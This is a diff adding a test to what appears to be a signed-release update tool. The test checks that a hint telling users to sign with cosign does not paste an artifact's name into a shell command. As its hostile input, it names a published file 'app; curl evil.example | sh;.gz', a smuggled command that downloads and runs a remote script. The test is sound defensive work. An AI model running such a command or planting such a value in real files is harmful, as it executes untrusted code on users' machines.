@@ -244,3 +244,14 @@ test("--accept-changed accepts other bytes, but not without a signature", async 
   expect(reasons).toMatch(/v1\.0\.0 with sigstore: the release has no Sigstore bundle/);
   expect(await scene.host.live()).toBe("v1.0.0");
 });
+
+test("the name of an artifact is not part of a command that is to be pasted into a shell", async () => {
+  const courier = await COURIERS.file();
+  courier.url += "?artifact=*.gz";
+  const host = await machine(courier);
+  await courier.publish("v1.0.0", { "app; curl evil.example | sh;.gz": "evil" });
+  const { reasons } = await host.poll({ flags: await policy(signers) });
+  expect(reasons).toMatch(
+    /sign it in CI: cosign sign-blob --yes --bundle FILE\.sigstore\.json FILE$/,
+  );
+});
